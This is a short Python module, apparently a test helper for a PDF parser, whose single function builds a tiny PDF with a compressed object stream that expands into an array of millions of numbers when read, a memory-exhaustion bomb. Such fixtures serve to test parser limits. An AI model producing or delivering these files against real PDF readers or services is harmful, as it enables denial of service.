"""Small documents that take much more to read than their size says. Made here, signed by nobody."""

from __future__ import annotations

import struct
import zlib


def array_bomb(numbers: int) -> bytes:
    """A PDF of a few thousand octets whose catalog has an array of so many numbers: 300 MiB a million, once read.

    Up to two million: more octets of one stream the reader refuses to unpack.
    """
    body = b"1 0 <</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields[]>>/X[" + b"0 " * numbers + b"]>>"
    packed = zlib.compress(body, 9)
    objects = [
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(packed), packed),
    ]
    data, places = b"%PDF-1.5\n", []
    for number, written in enumerate(objects, 2):
        places.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, written)
    places.append(len(data))
    rows = [(0, 0, 65535), (2, 4, 0), *((1, place, 0) for place in places)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    head = b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return data + head + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % places[-1]
